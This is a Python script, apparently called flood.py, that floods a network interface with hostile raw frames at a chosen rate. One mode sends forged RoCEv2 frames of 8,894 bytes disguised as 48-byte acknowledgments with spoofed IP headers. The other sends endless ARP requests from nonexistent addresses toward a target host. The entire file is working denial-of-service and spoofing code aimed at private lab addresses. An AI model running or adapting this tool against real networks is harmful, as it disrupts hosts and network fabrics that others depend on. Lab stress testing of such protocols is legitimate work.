"""Sends hostile frames from an interface until it is ended: `flood.py KIND INTERFACE PER_SECOND`.

`answers`: RoCEv2 frames of 8,894 bytes that claim to be acknowledgments of 48. `arp`: requests from
addresses that nobody has. Prints how many frames were sent.
"""

import itertools
import signal
import socket
import struct
import sys
import time

SOURCE_MAC = bytes.fromhex("02000a000102")
ATTACKER, TARGET = socket.inet_aton("10.0.1.2"), socket.inet_aton("10.0.1.3")
ROCE, ACKNOWLEDGE = 4791, 0x11
ANSWER_BYTES, CLAIMED_BYTES = 8894, 48


def checksum(header):
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def forged_answer():
    """An acknowledgment by its opcode and by the length in its IP header, and data by its size."""
    fields = [0x45, 0, CLAIMED_BYTES, 0, 0x4000, 64, 17]
    header = struct.pack("!BBHHHBBH", *fields, 0) + ATTACKER + TARGET
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    udp = struct.pack("!HHHH", 49_152, ROCE, CLAIMED_BYTES - 20, 0)
    frame = b"\2\0\0\0\0\xfe" + SOURCE_MAC + b"\x08\0" + header + udp + bytes([ACKNOWLEDGE])
    return frame.ljust(ANSWER_BYTES, b"\0")


def invented_requests():
    """ARP requests from 10.128.0.0 on."""
    for number in itertools.count():
        sender = struct.pack("!I", 0x0A800000 | number & 0x7FFFFF)
        mac = b"\6\0" + sender
        yield (
            b"\xff" * 6 + mac + b"\x08\6\0\1\x08\0\6\4\0\1" + mac + sender + bytes(6) + TARGET
        ).ljust(60, b"\0")


def main():
    kind, interface, per_second = sys.argv[1], sys.argv[2], float(sys.argv[3])
    frames = itertools.repeat(forged_answer()) if kind == "answers" else invented_requests()
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    sent, begun = 0, time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        while not ended:
            due = (time.monotonic() - begun) * per_second
            while sent < due and not ended:
                try:
                    wire.send(next(frames))
                except OSError:
                    # The queue of the interface is full.
                    time.sleep(0.001)
                sent += 1
            time.sleep(0.001)
    print(round(sent / (time.monotonic() - begun)))


if __name__ == "__main__":
    main()
